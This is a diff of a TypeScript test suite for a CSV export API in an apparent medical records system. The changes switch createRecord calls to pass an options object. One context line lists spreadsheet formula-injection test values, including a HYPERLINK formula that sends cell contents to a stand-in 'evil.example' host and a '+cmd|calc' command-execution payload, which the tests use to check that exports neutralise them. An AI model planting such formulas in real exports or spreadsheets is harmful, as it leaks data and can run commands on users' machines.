@@ -48,7 +48,7 @@ const formulas = ['=HYPERLINK("http://evil.example/?"&A1)', '+cmd|calc', '-2+3',
 beforeAll(async () => {
   const state = await api.insert(getEntity('state'));
   stateName = String(state!.name);
-  const med = async (name: string, price: number) => createRecord(api.db, medicine, { ...(await api.payload(medicine)), name, genericName: name, price, form: 'tablet', status: 'active' }, SYSTEM_ACTOR, api.config.scryptLogN);
+  const med = async (name: string, price: number) => createRecord(api.db, medicine, { ...(await api.payload(medicine)), name, genericName: name, price, form: 'tablet', status: 'active' }, { actor: SYSTEM_ACTOR, scryptLogN: api.config.scryptLogN });
   for (const name of [...Object.values(tricky), ...formulas]) await med(name, 12.5);
   // Many cities straight into the table (no API, no search rows): several export pages, in a known name order.
   await sql`insert into ${sql.raw(ident(city.table))} (${sql.raw(column(city, 'name'))}, ${sql.raw(column(city, 'state'))}, ${sql.raw(column(city, 'status'))})
@@ -99,7 +99,7 @@ describe('content', () => {
     expect(names).not.toContain(formulas[0]);
     // A number the server wrote from a number field stays a number.
     const range = getEntity('rangemaster');
-    const made = await createRecord(api.db, range, { ...(await api.payload(range)), label: 'Below zero', low: -12.5, high: -2, criticalLow: -20, criticalHigh: 5 }, SYSTEM_ACTOR, api.config.scryptLogN);
+    const made = await createRecord(api.db, range, { ...(await api.payload(range)), label: 'Below zero', low: -12.5, high: -2, criticalLow: -20, criticalHigh: 5 }, { actor: SYSTEM_ACTOR, scryptLogN: api.config.scryptLogN });
     const ranges = await exportOf('superadmin', `/api/rangemaster/export?columns=label,low,high&ids=${made.id}`);
     expect(ranges.rows[1]).toEqual(['Below zero', '-12.5', '-2']);
   });
@@ -215,8 +215,8 @@ describe('who may export what', () => {
 
   test("another centre's records are not in an fmc user's or a doctor's export, not even by id", async () => {
     const fmc = getEntity('fmc');
-    const centreB = await createRecord(api.db, fmc, (await api.payload(fmc))!, SYSTEM_ACTOR, api.config.scryptLogN);
-    const slotB = await createRecord(api.db, slots, { ...(await api.payload(slots)), fmc: centreB.id }, SYSTEM_ACTOR, api.config.scryptLogN);
+    const centreB = await createRecord(api.db, fmc, (await api.payload(fmc))!, { actor: SYSTEM_ACTOR, scryptLogN: api.config.scryptLogN });
+    const slotB = await createRecord(api.db, slots, { ...(await api.payload(slots)), fmc: centreB.id }, { actor: SYSTEM_ACTOR, scryptLogN: api.config.scryptLogN });
     const slotA = await api.insert(slots);
     for (const role of ['fmc', 'doctor'] as const) {
       const r = await exportOf(role, '/api/fmcslots/export?columns=id,fmc');
@@ -262,7 +262,7 @@ test('bad parameters answer 400 naming them, before any CSV', async () => {
 
 test('each exported patient is in the audit log, in the exporter\'s name', async () => {
   const made = [];
-  for (let i = 0; i < 3; i++) made.push(await createRecord(api.db, patients, { ...(await api.payload(patients)), firstName: 'Audited', lastName: `Export ${i}` }, SYSTEM_ACTOR, api.config.scryptLogN));
+  for (let i = 0; i < 3; i++) made.push(await createRecord(api.db, patients, { ...(await api.payload(patients)), firstName: 'Audited', lastName: `Export ${i}` }, { actor: SYSTEM_ACTOR, scryptLogN: api.config.scryptLogN }));
   const ids = made.map((p) => Number(p.id));
   const r = await exportOf('superadmin', `/api/patients/export?ids=${ids.join(',')}`);
   expect(r.rows.length).toBe(4);
